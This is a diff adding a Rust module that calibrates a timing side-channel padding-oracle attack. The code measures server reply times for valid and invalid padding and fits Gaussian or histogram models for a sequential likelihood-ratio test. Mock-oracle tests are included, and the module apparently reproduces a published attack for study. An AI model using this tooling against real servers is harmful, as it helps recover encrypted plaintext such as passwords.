@@ -0,0 +1,192 @@
+use std::io;
+
+use super::PaddingOracle;
+
+// --- Calibration Phase (Section 2.2) ---
+// Before attacking, the adversary learns what a "valid padding" reply (D_R) and an
+// "invalid padding" reply (D_W) look like on this particular server and network.
+// Both are measured with records whose padding status is known in advance:
+//  - valid  : the genuine last block, replayed with its real preceding block
+//  - invalid: the same, with the top bit of the last padding byte flipped (l ^ 0x80 >= 128 > b)
+
+const HISTOGRAM_BINS: usize = 40;
+
+/// How the SPRT turns a measured time into evidence.
+#[derive(Clone, Copy, Debug)]
+pub enum LikelihoodModel {
+    Gaussian,  // Fit both means and a pooled variance; cheap, but overconfident when the real noise has a tail
+    Histogram, // Empirical density over fixed bins; makes no shape assumption
+}
+
+/// Fitted distribution of reply times (in milliseconds) for one kind of query.
+#[derive(Clone)]
+pub struct TimingDistribution {
+    samples: Vec<f64>,
+    pub mean: f64,
+    pub variance: f64,
+}
+
+impl TimingDistribution {
+    /// Needs at least two samples: the variance is the unbiased (n - 1) estimate.
+    fn fit(samples: Vec<f64>) -> Self {
+        assert!(samples.len() >= 2, "a variance needs at least two samples, got {}", samples.len());
+        let n = samples.len() as f64;
+        let mean = samples.iter().sum::<f64>() / n;
+        let variance = samples.iter().map(|t| (t - mean).powi(2)).sum::<f64>() / (n - 1.0);
+        TimingDistribution { samples, mean, variance }
+    }
+
+    pub fn std_dev(&self) -> f64 {
+        self.variance.sqrt()
+    }
+}
+
+#[derive(Clone)]
+pub struct TimingModel {
+    pub valid: TimingDistribution,   // D_R: padding OK, the server goes on to check the MAC
+    pub invalid: TimingDistribution, // D_W: padding error, the server bails out early
+    pub likelihood: LikelihoodModel,
+    bin_edges: (f64, f64), // Histogram range, shared by both distributions
+    valid_bins: Vec<f64>,
+    invalid_bins: Vec<f64>,
+}
+
+impl TimingModel {
+    /// Sends `samples` known-valid and known-invalid queries and fits both distributions.
+    /// `samples` must be at least 2.
+    pub fn calibrate(oracle: &impl PaddingOracle, samples: usize, likelihood: LikelihoodModel) -> io::Result<Self> {
+        assert!(samples >= 2, "calibration needs at least two samples per class");
+        let record = oracle.capture_record()?;
+        let (y_prev, y) = (&record[record.len() - 2], &record[record.len() - 1]);
+        let mut broken_prev = y_prev.clone();
+        *broken_prev.last_mut().expect("blocks are never empty") ^= 0x80;
+
+        let measure = |iv: &[u8]| -> io::Result<Vec<f64>> {
+            (0..samples).map(|_| Ok(oracle.query(iv, y)?.as_secs_f64() * 1000.0)).collect()
+        };
+        Ok(Self::from_samples(measure(y_prev)?, measure(&broken_prev)?, likelihood))
+    }
+
+    /// Fits both distributions and the shared histogram to already measured reply times.
+    fn from_samples(valid: Vec<f64>, invalid: Vec<f64>, likelihood: LikelihoodModel) -> Self {
+        let valid = TimingDistribution::fit(valid);
+        let invalid = TimingDistribution::fit(invalid);
+
+        let all = valid.samples.iter().chain(&invalid.samples);
+        let low = all.clone().copied().fold(f64::INFINITY, f64::min);
+        let high = all.copied().fold(f64::NEG_INFINITY, f64::max);
+        let mut model = TimingModel {
+            valid,
+            invalid,
+            likelihood,
+            bin_edges: (low, high),
+            valid_bins: Vec::new(),
+            invalid_bins: Vec::new(),
+        };
+        model.valid_bins = model.smoothed_histogram(&model.valid.samples);
+        model.invalid_bins = model.smoothed_histogram(&model.invalid.samples);
+        model
+    }
+
+    /// Evidence one reply time gives for "padding was valid": ln( P(t | D_R) / P(t | D_W) )
+    pub fn log_likelihood_ratio(&self, t: f64) -> f64 {
+        match self.likelihood {
+            // Equal-variance Gaussians: the ratio is linear in t and crosses zero halfway between the means.
+            // (Separate variances would put the crossover just above D_W, because the fast path barely
+            // jitters, and every scheduler hiccup on an invalid query would then count as a valid one.)
+            LikelihoodModel::Gaussian => {
+                let variance = (self.valid.variance + self.invalid.variance) / 2.0;
+                let midpoint = (self.valid.mean + self.invalid.mean) / 2.0;
+                (self.valid.mean - self.invalid.mean) / variance * (t - midpoint)
+            }
+            LikelihoodModel::Histogram => {
+                let bin = self.bin_of(t);
+                (self.valid_bins[bin] / self.invalid_bins[bin]).ln()
+            }
+        }
+    }
+
+    pub fn print_summary(&self) {
+        println!(
+            "Calibration: D_R (valid pad) mean {:.3} ms, sd {:.3} | D_W (bad pad) mean {:.3} ms, sd {:.3} | model {:?}",
+            self.valid.mean,
+            self.valid.std_dev(),
+            self.invalid.mean,
+            self.invalid.std_dev(),
+            self.likelihood
+        );
+    }
+
+    /// ASCII histogram of both fitted distributions (empty bins are skipped).
+    pub fn print_histogram(&self) {
+        let (low, high) = self.bin_edges;
+        let width = (high - low) / HISTOGRAM_BINS as f64;
+        let count = |samples: &[f64], bin: usize| samples.iter().filter(|&&t| self.bin_of(t) == bin).count();
+        for bin in 0..HISTOGRAM_BINS {
+            let (r, w) = (count(&self.valid.samples, bin), count(&self.invalid.samples, bin));
+            if r + w > 0 {
+                println!(
+                    "  {:>7.2} ms | R {:<20} | W {}",
+                    low + width * bin as f64,
+                    "#".repeat(r),
+                    "#".repeat(w)
+                );
+            }
+        }
+    }
+
+    fn bin_of(&self, t: f64) -> usize {
+        let (low, high) = self.bin_edges;
+        let position = (t - low) / (high - low).max(f64::EPSILON) * HISTOGRAM_BINS as f64;
+        (position.max(0.0) as usize).min(HISTOGRAM_BINS - 1)
+    }
+
+    // Add-one smoothing, so a time never seen in calibration is weak evidence rather than infinite
+    fn smoothed_histogram(&self, samples: &[f64]) -> Vec<f64> {
+        let mut bins = vec![1.0; HISTOGRAM_BINS];
+        for &t in samples {
+            bins[self.bin_of(t)] += 1.0;
+        }
+        let total: f64 = bins.iter().sum();
+        bins.iter().map(|count| count / total).collect()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::MockOracle;
+    use crate::cipher::CipherKind;
+
+    #[test]
+    fn fit_uses_the_unbiased_variance() {
+        let fitted = TimingDistribution::fit(vec![1.0, 3.0]);
+        assert_eq!(fitted.mean, 2.0);
+        assert_eq!(fitted.variance, 2.0);
+    }
+
+    #[test]
+    #[should_panic(expected = "at least two samples")]
+    fn fit_rejects_a_single_sample() {
+        TimingDistribution::fit(vec![1.0]);
+    }
+
+    #[test]
+    #[should_panic(expected = "at least two samples")]
+    fn calibrate_rejects_a_single_sample() {
+        let _ = TimingModel::calibrate(&MockOracle::with_noise("secret", CipherKind::Des, 0), 1, LikelihoodModel::Gaussian);
+    }
+
+    #[test]
+    fn fitted_model_separates_the_two_paths() {
+        // Fixed reply times: the MAC check adds ~1 ms, and one invalid reply was delayed by a scheduler hiccup
+        let valid = vec![2.0, 2.1, 1.9, 2.0, 2.2, 1.8, 2.0, 2.1];
+        let invalid = vec![1.0, 1.1, 0.9, 1.0, 4.0, 1.2, 0.8, 1.0];
+        for likelihood in [LikelihoodModel::Gaussian, LikelihoodModel::Histogram] {
+            let model = TimingModel::from_samples(valid.clone(), invalid.clone(), likelihood);
+            assert_eq!(model.bin_edges, (0.8, 4.0));
+            assert!(model.log_likelihood_ratio(2.0) > 0.0, "{:?}", likelihood);
+            assert!(model.log_likelihood_ratio(1.0) < 0.0, "{:?}", likelihood);
+        }
+    }
+}